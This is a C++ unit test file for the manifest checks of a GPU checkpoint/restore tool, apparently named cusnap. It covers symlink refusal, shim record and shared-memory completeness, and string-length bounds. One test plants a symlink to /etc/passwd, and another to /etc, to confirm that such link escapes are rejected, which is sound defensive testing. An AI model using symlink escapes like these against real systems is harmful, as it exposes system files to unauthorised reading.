  write_file(d.path + "/criu/pages-1.img", "abc");
  Manifest m = sample(), back;
  std::string err;
  REQUIRE(hash_directory(d.path, &m.files, nullptr, &err));
  REQUIRE(write_manifest(d.path, m, &err));
  REQUIRE(read_manifest(d.path, &back, &err));
  const std::string refused = " is a symbolic link; a checkpoint holds only regular files";
  std::vector<ManifestFile> files;
  SUBCASE("a link to a file outside the checkpoint") {
    fs::create_symlink("/etc/passwd", d.path + "/criu/link");
    CHECK_FALSE(verify_manifest_files(d.path, back, nullptr, &err));
    CHECK(err == d.path + "/criu/link" + refused);
    CHECK_FALSE(hash_directory(d.path, &files, nullptr, &err));
    CHECK(err == d.path + "/criu/link" + refused);
  }
  SUBCASE("a link to a directory, given the checkpoint with a trailing slash") {
    fs::create_directory_symlink("/etc", d.path + "/criu/etc");
    CHECK_FALSE(verify_manifest_files(d.path + "/", back, nullptr, &err));
    CHECK(err == d.path + "/criu/etc" + refused);
  }
  SUBCASE("manifest.json a link to a copy of it") {
    fs::rename(d.path + "/manifest.json", d.path + "/m2");
    fs::create_symlink("m2", d.path + "/manifest.json");
    REQUIRE(read_manifest(d.path, &back, &err));
    CHECK_FALSE(verify_manifest_files(d.path, back, nullptr, &err));
    CHECK(err == d.path + "/manifest.json" + refused);
  }
  SUBCASE("without links, the directory by any spelling verifies") {
    CHECK(verify_manifest_files(d.path + "/", back, nullptr, &err));
    CHECK(verify_manifest_files(d.path + "/./", back, nullptr, &err));
  }
}

namespace {

/// sample() with a shim process 100 whose records are listed.
Manifest with_shim() {
  Manifest m = sample();
  m.shim_processes = {100};
  ManifestFile f = m.files[0];
  f.path = "shim/100.records";
  m.files.push_back(f);
  return m;
}

}  // namespace

TEST_CASE("manifest: what a restore reads by name must be among its files") {
  std::string err;
  Manifest m = with_shim(), back;
  REQUIRE(manifest_from_json(manifest_to_json(m), &back, &err));

  SUBCASE("a shim process without its records") {
    m.files.pop_back();
    CHECK_FALSE(manifest_from_json(manifest_to_json(m), &back, &err));
    CHECK(err ==
          "manifest field shim_processes[0]: the records of process 100, shim/100.records, are "
          "not among the checkpoint's files");
  }
  SUBCASE("a shim process that is none of the checkpoint's processes using CUDA") {
    m.shim_processes = {101};
    m.files.back().path = "shim/101.records";
    CHECK_FALSE(manifest_from_json(manifest_to_json(m), &back, &err));
    CHECK(err.find("shim_processes[0]: process 101 is none of the processes that use CUDA") !=
          std::string::npos);
    m.shim_processes = {100};
    m.files.back().path = "shim/100.records";
    m.processes[0].uses_cuda = false;
    CHECK_FALSE(manifest_from_json(manifest_to_json(m), &back, &err));
    CHECK(err.find("process 100 is none of the processes that use CUDA") != std::string::npos);
  }
  SUBCASE("a shim process twice") {
    m.shim_processes = {100, 100};
    CHECK_FALSE(manifest_from_json(manifest_to_json(m), &back, &err));
    CHECK(err.find("shim_processes[1]: process 100 is listed twice") != std::string::npos);
  }
  SUBCASE("a process twice") {
    m.processes.push_back(m.processes[0]);
    CHECK_FALSE(manifest_from_json(manifest_to_json(m), &back, &err));
    CHECK(err.find("processes[1].pid 100 is listed twice") != std::string::npos);
  }
  SUBCASE("files of shared memory: of a shim process, parts from 0 on") {
    ManifestFile part = m.files[0];
    part.path = "shared/100-7.0.bin";
    m.files.push_back(part);
    part.path = "shared/100-7.1.bin";
    m.files.push_back(part);
    REQUIRE(manifest_from_json(manifest_to_json(m), &back, &err));
    m.files[m.files.size() - 2].path = "shared/100-7.2.bin";  // parts 1 and 2, no 0
    CHECK_FALSE(manifest_from_json(manifest_to_json(m), &back, &err));
    CHECK(err.find("shared/100-7.1.bin: the part before it, shared/100-7.0.bin, is not among") !=
          std::string::npos);
    m.files[m.files.size() - 2].path = "shared/101-7.0.bin";
    m.files.back().path = "shared/101-7.1.bin";
    CHECK_FALSE(manifest_from_json(manifest_to_json(m), &back, &err));
    CHECK(err.find("shared/101-7.0.bin is the memory of process 101, which is not among "
                   "shim_processes") != std::string::npos);
    m.files.back().path = "shim/101.records";
    m.files[m.files.size() - 2].path = "shared/100-7.0.bin";
    CHECK_FALSE(manifest_from_json(manifest_to_json(m), &back, &err));
    CHECK(err.find("shim/101.records is the records of process 101, which is not among "
                   "shim_processes") != std::string::npos);
    m.files.back().path = "shared/notes.txt";
    CHECK_FALSE(manifest_from_json(manifest_to_json(m), &back, &err));
    CHECK(err.find("shared/notes.txt is not a file cusnap writes there") != std::string::npos);
  }
}

TEST_CASE("manifest: the records' shared memory must be in the checkpoint, whole") {
  TempDir d;
  write_file(d.path + "/criu/pages-1.img", "abc");
  proto::ShimRecords r;
  r.pid = 100;
  proto::AllocationRecord a;
  a.id = 7;
  a.origin = "created";
  a.exported = true;
  a.size = 10;
  r.allocations.push_back(a);
  a.id = 8;
  a.exported = false;  // not shared: nothing saved
  r.allocations.push_back(a);
  msgpack::sbuffer buf;
  msgpack::pack(buf, r);
  write_file(d.path + "/shim/100.records", std::string(buf.data(), buf.size()));
  write_file(d.path + "/shared/100-7.0.bin", "012345");
  write_file(d.path + "/shared/100-7.1.bin", "6789");
  Manifest m = sample(), back;
  m.shim_processes = {100};
  std::string err;
  REQUIRE(hash_directory(d.path, &m.files, nullptr, &err));
  REQUIRE(write_manifest(d.path, m, &err));
  REQUIRE(read_manifest(d.path, &back, &err));
  CHECK(verify_manifest_files(d.path, back, nullptr, &err));

  SUBCASE("a part missing from the manifest and the directory") {
    fs::remove(d.path + "/shared/100-7.1.bin");
    REQUIRE(hash_directory(d.path, &m.files, nullptr, &err));
    REQUIRE(write_manifest(d.path, m, &err));
    REQUIRE(read_manifest(d.path, &back, &err));
    CHECK_FALSE(verify_manifest_files(d.path, back, nullptr, &err));
    CHECK(err == d.path +
                     "/shim/100.records: allocation 7 of process 100 is 10 bytes, its saved "
                     "parts (shared/100-7.*.bin) hold 6: the checkpoint is incomplete");
  }
  SUBCASE("no part at all") {
    fs::remove_all(d.path + "/shared");
    REQUIRE(hash_directory(d.path, &m.files, nullptr, &err));
    REQUIRE(write_manifest(d.path, m, &err));
    REQUIRE(read_manifest(d.path, &back, &err));
    CHECK_FALSE(verify_manifest_files(d.path, back, nullptr, &err));
    CHECK(err.find("allocation 7 of process 100 is 10 bytes, its saved parts "
                   "(shared/100-7.*.bin) hold 0") != std::string::npos);
  }
  SUBCASE("records of another process") {
    r.pid = 101;
    msgpack::sbuffer other;
    msgpack::pack(other, r);
    write_file(d.path + "/shim/100.records", std::string(other.data(), other.size()));
    REQUIRE(hash_directory(d.path, &m.files, nullptr, &err));
    REQUIRE(write_manifest(d.path, m, &err));
    REQUIRE(read_manifest(d.path, &back, &err));
    CHECK_FALSE(verify_manifest_files(d.path, back, nullptr, &err));
    CHECK(err.find("/shim/100.records holds records of format 1 for process 101") !=
          std::string::npos);
  }
  SUBCASE("records that are not records") {
    write_file(d.path + "/shim/100.records", "\xc1");
    REQUIRE(hash_directory(d.path, &m.files, nullptr, &err));
    REQUIRE(write_manifest(d.path, m, &err));
    REQUIRE(read_manifest(d.path, &back, &err));
    CHECK_FALSE(verify_manifest_files(d.path, back, nullptr, &err));
    CHECK(err.find("/shim/100.records is not a shim record") != std::string::npos);
  }
}

TEST_CASE("manifest: strings are bounded, so that what a restore takes ps lists") {
  std::string err;
  Manifest m = sample(), back;
  auto refused = [&](const std::string& why) {
    CHECK_FALSE(manifest_from_json(manifest_to_json(m), &back, &err));
    CHECK_MESSAGE(err.find(why) != std::string::npos, why, " / ", err);
    m = sample();
  };
  m.job.cwd = "/" + std::string(10 << 20, 'd');
  refused("job.cwd is 10485761 bytes long, more than a path can be (4096 bytes)");
  m.job.cwd = "/" + std::string(4095, 'd');  // at the bound
  CHECK(manifest_from_json(manifest_to_json(m), &back, &err));
  m.job.shim_dir = std::string(4097, 'd');
  refused("job.shim_dir is 4097 bytes long, more than a path can be");
  m.processes[0].exe = std::string(4097, 'e');
  refused("processes[0].exe is 4097 bytes long");
  m.files[0].path = "criu/" + std::string(4092, 'f');
  refused("files[0].path is 4097 bytes long");
  m.job.name = std::string(5000, 'n');
  refused("job.name is 5000 bytes long, more than 4096");
  m.gpus[0].name = std::string(5000, 'g');
  refused("gpus[0].name is 5000 bytes long");
  m.created = std::string(5000, 'c');
  refused("created is 5000 bytes long");
  // An argument: at most what exec takes (MAX_ARG_STRLEN, with its NUL).
  m.job.argv.push_back(std::string(131072, 'a'));
  refused("job.argv[3] is 131072 bytes long, more than an argument can be (131071 bytes)");
  m.job.argv.push_back(std::string(131071, 'a'));
  CHECK(manifest_from_json(manifest_to_json(m), &back, &err));
  // The job's argv and cwd as job.json holds them: control bytes take 6.
  m.job.argv.assign(20, std::string(50000, '\x01'));
  refused("job.argv and job.cwd take 6000");
  // A process's command line: at most exec's arguments and environment.
  m.processes[0].cmdline.assign(49, std::string(131071, 'c'));
  refused("processes[0].cmdline is 6422528 bytes long, more than a command line can be");
  m.processes[0].cmdline.assign(48, std::string(131071, 'c'));
  CHECK(manifest_from_json(manifest_to_json(m), &back, &err));
}

TEST_CASE("manifest: the largest job record a restore takes fits the job.json that ps reads") {
  // job.json is read up to 1 MiB (runtime_dir.cpp); the job's record at the
  // bound, with the runtime and checkpoint directories at theirs (control
  // bytes, 6 in JSON each), a name and every other field.
  std::vector<std::string> argv;
  std::string err;
  const std::string arg(1000, '\x01');
  while (job_record_fits(argv, std::string(4096, '\x02'), &err)) argv.push_back(arg);
  argv.pop_back();
  REQUIRE(job_record_fits(argv, std::string(4096, '\x02'), &err));
  CHECK(argv.size() > 100);
  proto::JobStatus s;
  s.name = std::string(64, 'n');
  s.root_pid = s.supervisor_pid = 4194304;
  s.owner_uid = 4294967295;
  s.started = INT64_MAX;
  s.state = "checkpointing";
  s.argv = argv;
  s.cwd = std::string(4096, '\x02');
  s.runtime_dir = "/" + std::string(4095, '\x03');
  s.restored_from = "/" + std::string(4095, '\x04');
  CHECK(job_status_to_json(s).size() <= (size_t(1) << 20));
  // A launched job's arguments: the guardian's test has 1600 of 110 bytes.
  CHECK(job_record_fits(std::vector<std::string>(1600, std::string(110, 'x')), "/w", &err));
}
